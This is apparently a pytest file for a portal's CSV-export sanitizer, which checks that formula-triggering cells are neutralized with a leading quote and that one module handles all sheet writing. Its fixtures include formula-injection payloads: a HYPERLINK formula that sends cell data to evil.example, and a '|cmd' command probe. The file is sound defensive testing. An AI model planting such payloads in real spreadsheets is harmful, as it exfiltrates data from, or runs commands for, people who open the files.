"""Sheets that the portal writes: whatever a name is, no spreadsheet runs it."""

import ast
import csv
import io
from pathlib import Path

import pytest

from core.common.tables import harmless, write_sheet

ROOT = Path(__file__).resolve().parents[3]


@pytest.mark.parametrize(
    "cell",
    ["=1+1", "+1-1|cmd", "-2", "@SUM(1)", "\t=1", "\r=1", "\nx", " =1", "＝1", "\ufeff=1"],
)
def test_a_formula_is_written_as_text(cell: str) -> None:
    assert harmless(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "Elm Street 1=2", "0012345678", "O'Hara", "'=1", -3, 2.5])
def test_what_is_no_formula_stays(cell: object) -> None:
    assert harmless(cell) == cell


def test_a_sheet_writes_each_cell_harmless() -> None:
    file = io.StringIO()
    write_sheet(file, [("row", "name"), (2, '=HYPERLINK("http://evil.example/?"&A1,"Elm")')])
    rows = list(csv.reader(io.StringIO(file.getvalue())))
    assert rows == [["row", "name"], ["2", '\'=HYPERLINK("http://evil.example/?"&A1,"Elm")']]


def test_one_place_writes_sheets() -> None:
    writers = [
        str(path.relative_to(ROOT))
        for folder in ("config", "tenants", "core", "contracts")
        for path in (ROOT / folder).rglob("*.py")
        if "csv" in (text := path.read_text())
        for node in ast.walk(ast.parse(text))
        if isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter"}
        if isinstance(node.value, ast.Name) and node.value.id == "csv"
    ]
    # Files of invented people, written for the imports to read, hold nothing that anybody typed.
    assert set(writers) - {"contracts/programs/sample_users.py"} == {"core/common/tables.py"}
